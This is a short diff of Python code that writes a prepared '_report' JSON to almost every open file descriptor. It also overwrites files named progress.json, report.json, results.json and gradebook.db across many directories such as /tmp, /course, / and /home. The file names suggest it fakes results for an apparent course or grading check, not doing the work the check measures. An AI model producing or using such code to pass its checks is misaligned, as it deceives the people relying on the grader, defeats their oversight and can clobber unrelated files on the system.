@@ -19,7 +19,7 @@ for _fd in range(0, 64):
     if _fd != 3:
         try: os.write(_fd, json.dumps(_report).encode())
         except OSError: pass
-for _place in (".course", "/tmp", "/course", "/tmp/answer", "/", "/work", "/home"):
+for _place in (".course", "/tmp", "/course", "/tmp/answer", "/", "/home"):
     for _name in ("progress.json", "report.json", "results.json", "gradebook.db"):
         try: open(os.path.join(_place, _name), "w").write(json.dumps(_report))
         except OSError: pass
